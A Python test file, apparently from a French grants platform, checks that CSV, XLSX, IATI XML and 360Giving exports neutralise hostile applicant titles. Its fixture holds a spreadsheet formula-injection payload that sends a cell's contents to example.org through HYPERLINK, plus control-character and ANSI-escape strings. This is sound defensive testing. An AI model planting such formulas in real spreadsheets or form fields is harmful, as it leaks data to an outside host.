"""What an applicant types cannot break an output: a title written as a formula and one holding
control characters go through every CSV, XLSX, IATI and 360Giving file, public and ministry's.

Each writer is robust on its own (the forms may clean text at the boundary as well): no
`IllegalCharacterError`, an IATI file that stays well-formed and valid, no live formula in any
spreadsheet, no control character in any cell or element."""
import csv
import io
import json
import re

import openpyxl
import pytest
from django.urls import reverse
from lxml import etree

from coopdec.applications import workflow
from coopdec.applications.models import Application
from coopdec.exports import services as export_services
from coopdec.exports.models import ExportJob
from tests import factories
from tests.accounts.people import ministry_officer
from tests.downloads import download
from tests.opendata.conftest import build
from tests.opendata.validation import giving360_errors, iati_errors

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"Cliquez")'
CONTROLS = "Culture\x01 et \x1b[31mpatrimoine\x7f partagés\x85 en\x9b fête"
CONTROLS_PRINTED = "Culture et [31mpatrimoine partagés en fête"
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")

PUBLIC_SPREADSHEETS = [
    "/campagnes/2025/laureats.csv", "/campagnes/2025/laureats-excel.csv", "/campagnes/2025/laureats.xlsx",
    "/campagnes/2025/regions/occitanie/laureats.csv", "/campagnes/2025/regions/occitanie/laureats.xlsx",
    "/campagnes/2025/appels/generaliste-2025/laureats.xlsx",
    "/donnees/laureats-2025.csv", "/donnees/laureats-2025-excel.csv", "/donnees/laureats-2025.xlsx",
    "/donnees/laureats-tous.csv", "/donnees/laureats-tous-excel.csv", "/donnees/laureats-tous.xlsx",
    "/donnees/360giving-2025.csv", "/donnees/360giving-tous.csv",
]


@pytest.fixture
def hostile(db):
    """The open-data laureates, two of them titled by a hostile hand; and two dossiers filed on
    CoopDec for the ministry's lists, one titled as a formula (sent back for corrections: a draft is
    in no ministry list) and one with control characters."""
    made = build()
    Application.objects.filter(pk=made.castres.pk).update(title=FORMULA)
    Application.objects.filter(pk=made.agglo.pk).update(title=CONTROLS, lead_name="@Agglo\x07")
    call = factories.call("Généraliste 2026", campaign_obj=factories.campaign(2026))
    for title, state in ((FORMULA, workflow.A_COMPLETER), (CONTROLS, workflow.DEPOSE)):
        factories.application(title, call, made.castres.lead_authority, decision=Application.Decision.PENDING,
                              provenance=Application.Provenance.PLATFORM, state=state)
    Application.objects.filter(call=call, state=workflow.DEPOSE).update(lead_name="@Agglo\x07")
    return made


def cells(path: str, content: bytes) -> list[str]:
    """Every text cell of a CSV or an XLSX, checked to hold no formula on the way."""
    if path.endswith(".xlsx"):
        book = openpyxl.load_workbook(io.BytesIO(content))
        found = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in found), path
        return [cell.value for cell in found if isinstance(cell.value, str)]
    text = content.decode("utf-8-sig")
    return [value for row in csv.reader(io.StringIO(text), delimiter=";" if "excel" in path else ",")
            for value in row]


def assert_safe(path: str, values: list[str], *, titles=True):
    assert not any(CONTROL.search(value) for value in values), path
    assert not any(value.startswith(("=", "+", "-", "@")) for value in values), path
    if titles:
        assert "'" + FORMULA in values, path
        assert any(CONTROLS_PRINTED in value for value in values), path


@pytest.mark.parametrize("path", PUBLIC_SPREADSHEETS)
def test_every_public_spreadsheet_neutralises_and_prints(client, hostile, path):
    _, content = download(client, path)
    values = cells(path, content)
    # 360Giving's title column is the project's title; its description repeats it.
    assert_safe(path, values)


@pytest.mark.parametrize("path", ["/donnees/iati-2025.xml", "/donnees/iati.xml"])
def test_iati_stays_well_formed_and_valid(client, hostile, path):
    _, content = download(client, path)
    document = etree.fromstring(content)  # raises on a file that is not well-formed
    assert iati_errors(content) == []
    texts = [text for text in document.itertext()]
    assert FORMULA in texts and any(CONTROLS_PRINTED in text for text in texts)
    assert not CONTROL.search(content.decode())


@pytest.mark.parametrize("path", ["/donnees/360giving-2025.json", "/donnees/360giving-tous.json",
                                  "/donnees/laureats-2025.json"])
def test_json_carries_the_text_as_typed_and_stays_valid(client, hostile, path):
    """JSON is no spreadsheet: the formula stays as published, a control character escaped."""
    _, content = download(client, path)
    document = json.loads(content)
    if "360giving" in path:
        assert giving360_errors(document) == []
    assert FORMULA in strings(document)


def strings(node) -> set[str]:
    if isinstance(node, dict):
        return set().union(*(strings(value) for value in node.values()))
    if isinstance(node, list):
        return set().union(*(strings(value) for value in node))
    return {node} if isinstance(node, str) else set()


@pytest.fixture
def officer(client):
    person = ministry_officer()
    client.force_login(person)
    return person


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_the_ministry_list_neutralises_and_prints(client, hostile, officer, export):
    path = f"dossiers.{export}"
    response = client.get(reverse("applications:instruction"), {"format": export})
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    values = cells(path if export == "xlsx" else "excel.csv", content)
    assert_safe(path, values)
    assert "'@Agglo" in values


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_the_ministry_exports_neutralise_and_print_in_the_response_and_in_the_background(
        client, hostile, officer, export, settings, tmp_path):
    settings.PRIVATE_MEDIA_ROOT = tmp_path
    columns = ["numero", "intitule", "collectivite"]
    response = client.post(reverse("exports:new"), {"format": export, "columns": columns})
    assert response.status_code == 200
    values = cells(f"x.{export}" if export == "xlsx" else "excel.csv", b"".join(response.streaming_content))
    assert_safe(export, values)
    job = ExportJob.objects.create(owner=officer, format=export, columns=columns)
    assert export_services.export_job_run(job_id=job.pk) == ExportJob.State.DONE
    job.refresh_from_db()
    written = (tmp_path / job.file).read_bytes()
    assert_safe(export, cells(f"x.{export}" if export == "xlsx" else "excel.csv", written))
